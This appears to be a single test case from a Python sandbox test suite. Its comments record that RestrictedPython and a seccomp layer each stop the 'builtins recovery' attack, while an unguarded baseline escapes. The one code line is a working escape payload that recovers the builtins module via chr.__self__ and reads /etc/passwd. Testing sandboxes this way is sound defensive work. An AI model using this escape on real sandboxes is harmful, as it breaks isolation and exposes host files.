# attack: builtins recovery
# stops: restrictedpython: "__self__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython -guards => escaped
# a built-in function's __self__ is the builtins module
print("ESCAPED", len(chr.__self__.open("/etc/passwd").read()))
